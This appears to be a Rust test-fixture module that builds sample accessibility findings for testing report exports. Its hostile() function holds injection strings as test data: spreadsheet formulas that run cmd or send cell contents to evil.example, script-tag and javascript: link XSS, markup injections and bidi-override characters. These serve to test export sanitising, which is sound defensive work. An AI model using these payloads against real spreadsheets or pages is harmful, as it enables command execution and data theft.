//! Checks to export.

use std::collections::{BTreeMap, BTreeSet};

use a11ycheck_core::{
    catalog::{self, Basis, RuleEntry, WcagVersion},
    domain::{
        AxeCheck, CheckNeed, CheckOutcome, Failure, FailureCode, Finding, Findings, Impact, PageOutcome, PlatformKey,
        RuleFacts, RuleId, SiteDetails, SiteUrl, Tool, UndecidedReason,
    },
    export::{ExportFormat, ExportSource, write},
    locale::Locale,
};
use chrono::{DateTime, Utc};

pub(crate) const HOME: &str = "https://shop.example/";
pub(crate) const CART: &str = "https://shop.example/cart?step=1&q=`a`";

/// 1 June 2027, 12:00:00.123456.
pub(crate) fn checked_at() -> DateTime<Utc> {
    DateTime::from_timestamp(1_811_851_200, 123_456_000).unwrap()
}

pub(crate) fn site(name: &str) -> SiteDetails {
    SiteDetails {
        url: SiteUrl::parse(HOME).unwrap(),
        name: Some(name.to_owned()),
        report_locale: Locale::En,
        platform: None,
        stack: vec![PlatformKey::new("shopify")],
        tags: vec![],
        standard: None,
    }
}

pub(crate) fn source<'a>(site: &'a SiteDetails, findings: &'a Findings, locale: Locale) -> ExportSource<'a> {
    ExportSource::new("Blue Team", site, checked_at(), findings, locale)
}

pub(crate) fn exported(format: ExportFormat, site: &SiteDetails, findings: &Findings, locale: Locale) -> String {
    let mut bytes = Vec::new();
    write(format, &source(site, findings, locale), &mut bytes).unwrap();
    String::from_utf8(bytes).unwrap()
}

fn facts(impact: Impact, tags: &[&str]) -> RuleFacts {
    RuleFacts::new(impact, tags.iter().copied())
        .with_texts("Pages must be kind", "Ensure that `pages` are kind")
        .with_help_url("https://rules.example/kind?a=[b]")
}

fn element(rule: &str, page: usize, selector: &str, html: &str) -> Finding {
    let url = [HOME, CART, ""][page.min(2)];
    Finding::new(RuleId::new(rule), page, url, selector, html, "Fix any of the following:\n  Say what it is")
}

/// Returns what a check without values said, of which one is enough.
fn said(id: &str, outcome: CheckOutcome) -> AxeCheck {
    AxeCheck::new(id, CheckNeed::Any, outcome)
}

fn findings_of(items: Vec<Finding>) -> Findings {
    let rules = [
        ("color-contrast", facts(Impact::Serious, &["cat.color", "wcag2aa", "wcag143", "EN-9.1.4.3"])),
        ("image-alt", facts(Impact::Critical, &["wcag2a", "wcag111", "EN-9.1.1.1"])),
        ("link-name", facts(Impact::Serious, &["wcag2a", "wcag244", "wcag412", "EN-9.2.4.4", "EN-9.4.1.2"])),
        ("region", facts(Impact::Moderate, &["best-practice"])),
        ("kind-page", facts(Impact::Minor, &["wcag2a"])),
    ];
    let status =
        |status: u16| Failure::new(FailureCode::HttpStatus, format!("The web server answered with status {status}."));
    let mut cart = PageOutcome::checked(CART, "Cart");
    cart.frames_not_checked = 2;
    let pages = [
        PageOutcome::checked(HOME, "Shop"),
        cart,
        PageOutcome::checked("https://shop.example/about", "About"),
        PageOutcome::failed("https://shop.example/old", "", status(404)),
        PageOutcome::dead_link("https://shop.example/gone", CART, status(410)),
    ];
    let mut findings = Findings::new(Tool::axe_core("4.14.1", "Chromium 150.0").with_probes("0.1.0"))
        .with_pages(pages)
        .with_rules(rules.map(|(rule, facts)| (RuleId::new(rule), facts)))
        .with_items(items)
        .with_ran(rules_of_a_check());
    let link = RuleId::new("link-name");
    findings.needs_review = BTreeMap::from([(link.clone(), 3)]);
    findings.undecided_reasons = BTreeMap::from([(link, vec![UndecidedReason::new("has-visible-text", None, 2)])]);
    let check = said("has-visible-text", CheckOutcome::Incomplete);
    findings.undecided =
        vec![element("link-name", 1, "nav > a:nth-child(2)", "<a href=\"/\">…</a>").with_checks([check])];
    findings
}

/// The findings of an ordinary check: problems and recommendations, new and old elements, a rule that is not in the catalogue.
pub(crate) fn ordinary() -> Findings {
    let new = |mut finding: Finding| {
        finding.is_new = true;
        finding
    };
    findings_of(vec![
        element("color-contrast", 0, "main > p:nth-child(2)", "<p style=\"color: #aaa\">Ціна, 5 ₴</p>"),
        new(element("color-contrast", 0, ".price", "<span class=\"price\">5 ₴</span>")),
        element("image-alt", 0, "#logo", "<img id=\"logo\" src=\"/logo.png\">")
            .with_checks(["has-alt", "aria-label"].map(|id| said(id, CheckOutcome::Fail))),
        element("region", 0, "div", "<div>Text</div>"),
        new(element("color-contrast", 1, ".price", "<span class=\"price\">7 ₴</span>")),
        element("kind-page", 1, "html", "<html>"),
    ])
}

/// The findings of a site that attacks readers of the file.
pub(crate) fn hostile() -> Findings {
    let texts = [
        "=HYPERLINK(\"https://evil.example?\"&A1,\"Click\")",
        "x;=cmd|'/C calc'!A0;y",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "```\n\n# Owned\n\n``` and ` and ``",
        "</script><script>alert(1)</script><!-- -->",
        "{noformat}\n* [~admin] !https://evil.example/x.png!\n{noformat}",
        "a,\"b\"\r\nc,'d',\"\"",
        "\u{202e}txt.exe\u{2066} שלום 👩‍🦽 \u{1b}[31m \u{7}",
        "@octocat #1 GH-1 org/repo#1 :bug: $x$ <b>[a](javascript:alert(1))",
        "- [x] done",
        "\u{feff}=1+1",
        "",
    ];
    let long = "\"<='`{".repeat(170_000);
    let all = texts.into_iter().chain([long.as_str()]);
    findings_of(all.map(|text| element("color-contrast", 1, text, text)).collect())
}

/// The findings of a check of a large and careless site: `count` elements of one problem rule, evenly spread over `pages` pages.
pub(crate) fn large(count: usize, pages: usize) -> Findings {
    let items = (0..count).map(|number| {
        let page = number * pages / count;
        element("color-contrast", page, &format!("main > div:nth-child({number}) > p"), "<p class=\"price\">5 ₴</p>")
    });
    let page = |page| PageOutcome::checked(format!("https://shop.example/p/{page}"), "Page");
    findings_of(items.collect()).with_pages((0..pages).map(page))
}

/// The findings of a check that found nothing.
pub(crate) fn clean() -> Findings {
    findings_of(vec![])
}

/// The rules that axe-core runs by default: neither level AAA nor WCAG 2.2.
fn rules_of_a_check() -> BTreeSet<RuleId> {
    let runs = |entry: &RuleEntry| {
        entry.basis == Basis::WcagAAa && entry.since().is_some_and(|version| version < WcagVersion::V2_2)
    };
    catalog::rules().filter(|(_, entry)| runs(entry)).map(|(id, _)| RuleId::new(id)).collect()
}
